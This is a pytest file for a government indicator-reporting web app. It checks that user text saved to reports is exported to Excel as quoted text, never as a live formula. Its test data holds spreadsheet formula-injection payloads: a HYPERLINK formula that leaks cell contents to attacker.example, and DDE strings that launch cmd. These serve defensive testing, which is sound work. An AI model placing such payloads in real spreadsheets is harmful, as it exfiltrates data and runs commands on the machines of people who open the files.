"""Finding 3: text a department saves never comes out of an Excel export as a formula, and the
exported workbooks do not recalculate on opening."""
from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from tests.conftest import local
from tests.test_indicators import COMMUNE, commune_user  # noqa: F401  (fixture)

ATTACKS = {
    "description": '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")',
    "difficulties": "=cmd|' /C calc'!A0",
    "proposals": "+1+1",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _save(client, token):
    body = {"unit": COMMUNE, "period": "2026-05", "value": 90, "submit": False, **ATTACKS}
    response = client.post("/api/v1/indicators/CT4/reports", headers={"Authorization": f"Bearer {token}"},
                           json=body)
    assert response.status_code == 201, response.get_json()
    second = client.post("/api/v1/indicators/CT5/reports", headers={"Authorization": f"Bearer {token}"},
                         json={"unit": COMMUNE, "period": "2026-05", "value": 90, "submit": False,
                               "description": "-  Đã triển khai\tcho 5 thôn", "notes": "-2", "proposals": "#N/A"})
    assert second.status_code == 201, second.get_json()


def _parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")}


def test_formula_text_is_exported_as_quoted_text_without_recalculation(db, client, api, commune_user, frozen_now):
    _, token = commune_user
    frozen_now(local(2026, 5, 16, 9, 0))
    _save(client, token)
    for path, user in [(f"/api/v1/indicators/export.xlsx?period=2026-05&unit={COMMUNE}", "office"),
                       ("/api/v1/indicators/export.xlsx?period=2026-05", "office")]:
        response = api.get(path, user)
        assert response.status_code == 200
        parts = _parts(response.data)
        sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
        assert sheets and not any(re.search(r"<(?:\w+:)?f[ >]", text) for text in sheets), "a formula was written"
        assert not any(' t="e"' in text for text in sheets), "text was written as an error code"
        assert "fullCalcOnLoad" not in parts["xl/workbook.xml"]
        book = load_workbook(io.BytesIO(response.data))
        values = {cell.value: cell.data_type for sheet in book.worksheets for row in sheet.iter_rows()
                  for cell in row if isinstance(cell.value, str)}
        for text in [*ATTACKS.values(), "-  Đã triển khai\tcho 5 thôn", "-2"]:
            assert values.get("'" + text) == "s", (text, [v for v in values if v.endswith(text[1:])])
            assert text not in values
        assert values.get("#N/A") == "s"


def test_the_quotes_come_off_when_the_exported_form_comes_back(db, client, api, commune_user, frozen_now):
    from sqlalchemy import select

    from models import IndicatorReport

    _, token = commune_user
    frozen_now(local(2026, 5, 16, 9, 0))
    _save(client, token)
    data = api.get(f"/api/v1/indicators/export.xlsx?period=2026-05&unit={COMMUNE}", "office").data
    response = client.post("/api/v1/indicators/import", headers={"Authorization": f"Bearer {token}"},
                           data={"file": (io.BytesIO(data), "bieu.xlsx"), "submit": "false"},
                           content_type="multipart/form-data")
    assert response.status_code == 200, response.get_json()
    reports = {r.indicator.code: r for r in db.session.scalars(select(IndicatorReport))}
    assert reports["CT4"].description == ATTACKS["description"] and reports["CT4"].notes == ATTACKS["notes"]
    assert reports["CT5"].description.startswith("-  Đã triển khai")


def test_every_formula_prefix_is_quoted():
    from workflow.spreadsheet import safe_text, unquote

    for text in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"]:
        assert safe_text(text) == "'" + text and unquote(safe_text(text)) == text
    assert safe_text("Đã triển khai") == "Đã triển khai" and unquote("'tên") == "'tên"


def test_every_workbook_is_made_by_workflow_spreadsheet():
    """A future export cannot forget the rules above: only workflow/spreadsheet.py creates workbooks."""
    root = Path(__file__).resolve().parents[1] / "workflow"
    offenders = [str(path.relative_to(root.parent)) for path in root.rglob("*.py")
                 if path.name != "spreadsheet.py"
                 and re.search(r"\bWorkbook\(|import[^\n]*\bWorkbook\b", path.read_text(encoding="utf-8"))]
    assert offenders == [], offenders
